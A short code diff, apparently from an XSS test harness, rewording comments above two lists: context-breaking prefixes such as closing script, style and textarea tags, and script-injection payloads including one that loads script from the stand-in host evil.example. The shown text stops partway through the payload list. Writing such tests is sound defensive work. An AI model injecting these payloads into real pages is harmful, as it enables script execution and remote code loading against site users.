@@ -1,10 +1,10 @@
-/** What a text has to get out of first. */
+/** The contexts that a malicious text has to break out of. */
 const WAYS_OUT = [
   ...['', '">', "'>", '-->', ']]>', '</b>', '</title>', '</style>', '</textarea>'],
   ...['</template>', '</svg>', '</script>', '{{', '\\'],
 ];
 
-/** What then runs `ran()`, loads something from elsewhere, or takes a name in the page. */
+/** The payloads: run `ran()`, load something foreign, or take a name in the page. */
 const SCRIPTS = [
   '<script>ran()</script>',
   '<script src=//evil.example>',
